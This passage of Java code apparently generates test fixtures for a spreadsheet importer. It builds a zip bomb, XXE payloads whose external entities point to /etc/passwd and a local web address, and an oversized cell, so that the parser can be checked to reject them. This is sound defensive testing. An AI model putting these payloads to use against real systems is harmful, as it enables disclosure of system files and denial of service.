        String rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", contentTypes(sharedStrings != null).getBytes(StandardCharsets.UTF_8));
        parts.put("_rels/.rels", (XML + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"" + rel + "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")
                .getBytes(StandardCharsets.UTF_8));
        parts.put("xl/workbook.xml", (XML + "<workbook xmlns=\"" + MAIN + "\" xmlns:r=\"" + rel + "\"><sheets>"
                + "<sheet name=\"Return\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>").getBytes(StandardCharsets.UTF_8));
        parts.put("xl/_rels/workbook.xml.rels", (XML + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"" + rel + "/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
                + (sharedStrings != null ? "<Relationship Id=\"rId2\" Type=\"" + rel + "/sharedStrings\" Target=\"sharedStrings.xml\"/>" : "")
                + "</Relationships>").getBytes(StandardCharsets.UTF_8));
        parts.put("xl/worksheets/sheet1.xml", sheetXml);
        if (sharedStrings != null) {
            parts.put("xl/sharedStrings.xml", sharedStrings.getBytes(StandardCharsets.UTF_8));
        }
        return parts;
    }

    static void zip(Path file, Map<String, byte[]> parts, int level) throws IOException {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.setLevel(level);
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                ZipEntry entry = new ZipEntry(part.getKey());
                entry.setTime(0);
                zip.putNextEntry(entry);
                zip.write(part.getValue());
                zip.closeEntry();
            }
        }
    }

    /** A sheet of 100 MB of spaces that packs to about 100 KB: over a thousand times its packed size. */
    private static void zipBomb(Path dir, String name) throws IOException {
        ByteArrayOutputStream sheet = new ByteArrayOutputStream();
        sheet.write((XML + "<worksheet xmlns=\"" + MAIN + "\"><sheetData>" + headerRow()).getBytes(StandardCharsets.UTF_8));
        byte[] spaces = new byte[1 << 20];
        Arrays.fill(spaces, (byte) ' ');
        for (int i = 0; i < 100; i++) {
            sheet.write(spaces);
        }
        sheet.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
        rawXlsx(dir, name, sheet.toByteArray(), null, contentTypes(false), Deflater.BEST_COMPRESSION);
    }

    /**
     * A DOCTYPE declaring an external entity, in the sheet (a file), in the shared strings (a web
     * address) and in [Content_Types].xml: none may be resolved.
     */
    private static void xxe(Path dir) throws IOException {
        String row2 = "<row r=\"2\">" + inline("A2", "DHR1") + inline("B2", "16") + inline("C2", "POLICE") + inline("D2", "2016-03-31")
                + inline("E2", "In progress") + "<c r=\"F2\" t=\"inlineStr\"><is><t>&xxe;</t></is></c></row>";
        rawXlsx(dir, "xxe-sheet.xlsx", doctype("worksheet", "file:///etc/passwd") + sheetBody(headerRow() + row2), null,
                Deflater.DEFAULT_COMPRESSION);
        rawXlsx(dir, "xxe-shared-strings.xlsx", sheet(headerRow() + "<row r=\"2\">" + inline("A2", "DHR1") + inline("B2", "16")
                + inline("C2", "POLICE") + inline("D2", "2016-03-31") + inline("E2", "In progress")
                + "<c r=\"F2\" t=\"s\"><v>0</v></c></row>"),
                doctype("sst", "http://127.0.0.1:9/xxe") + "<sst xmlns=\"" + MAIN + "\" count=\"1\" uniqueCount=\"1\"><si><t>&xxe;</t></si></sst>",
                Deflater.DEFAULT_COMPRESSION);
        String types = contentTypes(false);
        rawXlsx(dir, "xxe-content-types.xlsx", sheet(headerRow() + row2.replace("&xxe;", "Card ordered " + MARK)).getBytes(StandardCharsets.UTF_8),
                null, types.replace(XML, doctype("Types", "file:///etc/passwd")), Deflater.DEFAULT_COMPRESSION);
    }

    /**
     * Progress of 50,000,000 characters: runs of x of 300 to 800 (seeded), so that it packs about
     * 200 times, within the limit a zip bomb is told by, into some 250 KB.
     */
    private static void bigCell(Path dir, String name) throws IOException {
        ByteArrayOutputStream sheet = new ByteArrayOutputStream(51_000_000);
        sheet.write((XML + "<worksheet xmlns=\"" + MAIN + "\"><sheetData>" + headerRow() + "<row r=\"2\">" + inline("A2", "DHR1")
                + inline("B2", "16") + inline("C2", "POLICE") + inline("D2", "2016-03-31") + inline("E2", "In progress")
                + "<c r=\"F2\" t=\"inlineStr\"><is><t>" + MARK + " ").getBytes(StandardCharsets.UTF_8));
        Random random = new Random(7);
        int written = MARK.length() + 1;
        while (written < 50_000_000) {
            int run = Math.min(300 + random.nextInt(501), 50_000_000 - written);
            byte[] xs = new byte[run];
            Arrays.fill(xs, (byte) 'x');
            xs[run - 1] = ' ';
            sheet.write(xs);
            written += run;
        }
        sheet.write("</t></is></c></row></sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
        rawXlsx(dir, name, sheet.toByteArray(), null, contentTypes(false), Deflater.DEFAULT_COMPRESSION);
    }

    // ---- text ----

    private static void text(Path dir, String name, String text, Charset charset, boolean bom) throws IOException {
        byte[] mark = !bom ? new byte[0]
                : charset == StandardCharsets.UTF_8 ? new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}
                : charset == StandardCharsets.UTF_16LE ? new byte[] {(byte) 0xFF, (byte) 0xFE}
                : new byte[] {(byte) 0xFE, (byte) 0xFF};
        bytes(dir, name, concat(mark, text.getBytes(charset)));
    }

    private static void bytes(Path dir, String name, byte[] bytes) throws IOException {
        Files.write(dir.resolve(name), bytes);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
